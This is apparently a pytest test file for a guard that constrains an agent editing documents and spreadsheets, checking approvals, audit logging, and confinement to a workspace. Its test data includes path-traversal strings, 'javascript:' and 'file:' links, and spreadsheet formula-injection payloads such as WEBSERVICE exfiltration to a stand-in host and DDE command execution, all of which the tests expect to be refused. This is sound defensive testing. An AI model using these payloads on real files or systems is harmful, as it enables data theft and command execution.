"""The guard lets pass what is harmless, asks before what is not, and keeps every action inside of the named files."""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from lam.actions import actions_for
from lam.errors import ActionRejected, EnvironmentFault
from lam.guard import Budget, Fence, Guard, short
from lam.types import Action, Control, Decision, Kind, Observation, Outcome

SEEN = Observation("document", "a.docx", "")


@dataclass
class Nodding:
    """A person who says the same to everything."""

    yes: bool
    questions: list[str] = field(default_factory=list)

    def confirm(self, question: str) -> bool:
        self.questions.append(question)
        return self.yes

    def answer(self, question: str) -> str:
        return "blue"


def guard(tmp_path: Path, kind: Kind = "document", approval: str = "auto", person: Nodding | None = None, **fence: object) -> Guard:
    return Guard(kind, Fence(tmp_path / "a.docx", **fence), approval, person, "run-1", (tmp_path / "audit.jsonl",))  # type: ignore[arg-type]


def permit(guard: Guard, name: str, seen: Observation = SEEN, **args: object) -> str:
    return guard.permit(Action(name, args), seen).decision


BOLD = {"target": "p1", "bold": True}


def test_auto_lets_edits_pass_and_reads_always_pass(tmp_path: Path) -> None:
    assert permit(guard(tmp_path), "format_text", **BOLD) == "allowed"
    for approval in ("auto", "ask", "deny"):
        assert permit(guard(tmp_path, approval=approval), "find_text", query="x") == "allowed"


def test_ask_asks_before_every_edit(tmp_path: Path) -> None:
    person = Nodding(True)
    assert permit(guard(tmp_path, approval="ask", person=person), "format_text", **BOLD) == "approved by the person"
    assert "format_text(p1, bold=True)" in person.questions[0]
    with pytest.raises(ActionRejected, match="did not allow"):
        permit(guard(tmp_path, approval="ask", person=Nodding(False)), "format_text", **BOLD)
    with pytest.raises(ActionRejected, match="nobody can be asked"):
        permit(guard(tmp_path, approval="ask"), "format_text", **BOLD)


def test_deny_lets_nothing_but_reading_pass(tmp_path: Path) -> None:
    person = Nodding(True)
    for name, declaration in actions_for("document").items():
        if declaration.risk == "edit" and name == "format_text":
            with pytest.raises(ActionRejected, match="only look"):
                permit(guard(tmp_path, approval="deny", person=person), name, **BOLD)
    assert not person.questions


def test_irreversible_actions_are_asked_about_or_refused(tmp_path: Path) -> None:
    with pytest.raises(ActionRejected, match="beyond undo"):
        permit(guard(tmp_path, "spreadsheet"), "delete_sheet", sheet="Notes")
    assert permit(guard(tmp_path, "spreadsheet", person=Nodding(True)), "delete_sheet", sheet="Notes") == "approved by the person"


def test_a_wrong_action_is_rejected_and_written_down(tmp_path: Path) -> None:
    with pytest.raises(ActionRejected, match="did you mean"):
        permit(guard(tmp_path), "fromat_text")
    assert json.loads((tmp_path / "audit.jsonl").read_text())["decision"] == "refused"


@pytest.mark.parametrize(
    "path",
    [
        "/etc/passwd",
        "../secret.png",
        "file:///etc/passwd.png",
        "http://x/y.png",
        "//server/x.png",
        "\\\\server\\x.png",
        "~/x.png",
        "link.png",
        "a\0.png",
    ],
)
def test_no_path_leaves_the_workspace(tmp_path: Path, path: str) -> None:
    workspace = tmp_path / "work"
    workspace.mkdir()
    (tmp_path / "secret.png").write_bytes(b"x")
    (workspace / "link.png").symlink_to(tmp_path / "secret.png")
    with pytest.raises(ActionRejected):
        permit(guard(tmp_path, workspace=workspace), "insert_image", path=path)


def test_files_of_the_workspace_and_named_files_are_read_with_their_real_path(tmp_path: Path) -> None:
    picture = tmp_path / "logo.png"
    picture.write_bytes(b"x")
    with pytest.raises(ActionRejected, match="no workspace is declared"):
        permit(guard(tmp_path), "insert_image", path="logo.png")
    for fence in ({"workspace": tmp_path}, {"named": frozenset({picture})}):
        allowed = guard(tmp_path, **fence).permit(Action("insert_image", {"path": "logo.png"}), SEEN)
        assert allowed.action.args["path"] == str(picture.resolve())
    with pytest.raises(ActionRejected, match="no file"):
        permit(guard(tmp_path, workspace=tmp_path), "insert_image", path="other.png")
    (tmp_path / "notes.txt").write_text("x")
    with pytest.raises(ActionRejected, match="takes a file ending in"):
        permit(guard(tmp_path, workspace=tmp_path), "insert_image", path="notes.txt")


def test_new_files_are_written_into_the_workspace_only(tmp_path: Path) -> None:
    assert permit(guard(tmp_path, workspace=tmp_path), "export_pdf", path="out.pdf") == "granted beforehand"
    assert guard(tmp_path, workspace=tmp_path).permit(Action("export_pdf", {}), SEEN).action.args["path"] == str(tmp_path / "a.pdf")
    (tmp_path / "out.pdf").write_bytes(b"old")
    with pytest.raises(ActionRejected, match="nobody can be asked"):
        permit(guard(tmp_path, workspace=tmp_path), "export_pdf", path="out.pdf")
    with pytest.raises(ActionRejected, match="document itself"):
        permit(guard(tmp_path, workspace=tmp_path), "save_as", path="a.docx")
    with pytest.raises(ActionRejected, match="outside"):
        permit(guard(tmp_path), "export_pdf", path="out.pdf")
    with pytest.raises(ActionRejected, match="dry run"):
        permit(guard(tmp_path, workspace=tmp_path, writes=False), "export_pdf", path="new.pdf")


@pytest.mark.parametrize("url", ["https://example.org/a", "http://example.org", "mailto:office@example.org", "#Results", "www.example.org"])
def test_links_to_the_web_mail_and_inside_are_fine(tmp_path: Path, url: str) -> None:
    assert permit(guard(tmp_path), "insert_link", target="p1", url=url) == "allowed"


@pytest.mark.parametrize(
    "url", ["file:///etc/passwd", "javascript:alert(1)", "smb://server/x", "/etc/passwd", "vnd.sun.star.script:x", "data:text/html,x", " FILE:///x"]
)
def test_other_links_are_refused(tmp_path: Path, url: str) -> None:
    with pytest.raises(ActionRejected, match="a link goes to"):
        permit(guard(tmp_path), "insert_link", target="p1", url=url)


@pytest.mark.parametrize(
    "value",
    [
        '=WEBSERVICE("http://x/?"&A1)',
        "=webservice ( A1)",
        "=cmd|'/c calc'!A1",
        "='file:///tmp/other.xlsx'#$Sheet1.A1",
        "=[other.xlsx]Sheet1!A1",
        '=DDE("soffice";"x";"y")',
        '=HYPERLINK("file:///etc/passwd")',
        "=IMPORTDATA(A1)",
        "='/tmp/x.ods'#$A.A1",
    ],
)
def test_formulas_that_reach_out_are_refused(tmp_path: Path, value: str) -> None:
    for name, args in (
        ("set_cell", {"cell": "A1", "value": value}),
        ("set_cells", {"cell": "A1", "rows": [["x", value]]}),
        ("find_replace", {"find": "x", "replace": value}),
    ):
        with pytest.raises(ActionRejected, match="reach outside"):
            permit(guard(tmp_path, "spreadsheet"), name, **args)


@pytest.mark.parametrize(
    "value",
    [
        "=AVERAGE(B2:B13)",
        "=Notes!A1",
        "=Table1[Sales]",
        "Service: cleaning",
        "Private: yes",
        "see report.xlsx!",
        '=IF(A1="a|b","!","")',
        12.5,
        "-5 | +3",
        "File: A",
    ],
)
def test_ordinary_values_and_formulas_pass(tmp_path: Path, value: object) -> None:
    assert permit(guard(tmp_path, "spreadsheet"), "set_cell", cell="A1", value=value) == "allowed"


@pytest.mark.parametrize(
    "path",
    [
        "File > Save As...",
        "File > Open",
        "File > Print…",
        "Tools > Macros > Run Macro",
        "File > Export As > PDF",
        "Insert > Image…",
        ".uno:SaveAs",
        "Tools > Options",
    ],
)
def test_menu_commands_that_lead_out_are_outward(tmp_path: Path, path: str) -> None:
    with pytest.raises(ActionRejected, match="outside of the document"):
        permit(guard(tmp_path), "menu", path=path)


@pytest.mark.parametrize(
    "path",
    ["Insert > Footnote", "Format > Text > Bold", "Format > Print Ranges > Define", "Table > Insert Table", ".uno:Bold", "Insert > Page Break"],
)
def test_other_menu_commands_pass(tmp_path: Path, path: str) -> None:
    assert permit(guard(tmp_path), "menu", path=path) == "allowed"


def test_keys_and_controls_that_lead_out_are_outward(tmp_path: Path) -> None:
    controls = (
        Control("c1", "button", "Open"),
        Control("c2", "button", "Bold"),
        Control("c3", "button", "OK", dialog="Print"),
        Control("c4", "button", "Cancel", dialog="Print"),
        Control("c5", "menu item", "Save As..."),
    )
    seen = Observation("document", "a.docx", "", controls=controls)
    for name, args in (("press", {"keys": "Ctrl+O"}), ("press", {"keys": "Alt+F"}), *(("click", {"control": c}) for c in ("c1", "c3", "c5"))):
        with pytest.raises(ActionRejected, match="outside of the document"):
            permit(guard(tmp_path), name, seen, **args)
    for name, args in (("press", {"keys": "Ctrl+B"}), ("click", {"control": "c2"}), ("click", {"control": "c4"})):
        assert permit(guard(tmp_path), name, seen, **args) == "allowed"
    printing = Observation("document", "a.docx", "", dialogs=("Print",))
    with pytest.raises(ActionRejected):
        permit(guard(tmp_path), "press", printing, keys="Return")
    assert permit(guard(tmp_path), "press", printing, keys="Escape") == "allowed"


def test_every_action_leaves_one_audit_line_whatever_comes_of_it(tmp_path: Path) -> None:
    keeper = guard(tmp_path)
    allowed = keeper.permit(Action("format_text", BOLD), SEEN)
    keeper.act(allowed, lambda action: Outcome(True, "bold"))

    def dies(action: Action) -> Outcome:
        raise EnvironmentFault("gone")

    def stops(action: Action) -> Outcome:
        raise KeyboardInterrupt

    with pytest.raises(EnvironmentFault):
        keeper.act(allowed, dies)
    with pytest.raises(KeyboardInterrupt):
        keeper.act(allowed, stops)
    lines = [json.loads(line) for line in (tmp_path / "audit.jsonl").read_text().splitlines()]
    assert [line["outcome"] for line in lines] == ["ok: bold", "fault: gone", "interrupted"]
    assert all(set(line) == {"time", "run", "action", "args", "risk", "decision", "outcome"} for line in lines)
    assert lines[0]["risk"] == "edit"


def test_a_password_is_not_written_into_the_audit(tmp_path: Path) -> None:
    keeper = guard(tmp_path, "spreadsheet")
    keeper.act(keeper.permit(Action("protect_sheet", {"password": "s3cret"}), SEEN), lambda action: Outcome(True, "protected"))
    assert "s3cret" not in (tmp_path / "audit.jsonl").read_text()


def test_the_budget_says_which_limit_is_reached() -> None:
    budget = Budget(max_steps=2, max_seconds=100, max_tokens=50)
    assert budget.exceeded == ""
    budget.spend(Decision("", Action("read"), prompt_tokens=60, cached_tokens=20, completion_tokens=9))
    assert budget.exceeded == ""
    budget.spend(Decision("", Action("read"), completion_tokens=1))
    assert budget.exceeded == "the limit of 2 steps is reached"
    assert "tokens" in Budget(max_tokens=1, tokens=1).exceeded
    assert "seconds" in Budget(max_seconds=0).exceeded


def test_an_action_is_shown_short() -> None:
    assert short(Action("format_text", {"target": "p1", "bold": True})) == "format_text(p1, bold=True)"
    assert len(short(Action("insert_text", {"text": "x" * 500}))) == 90
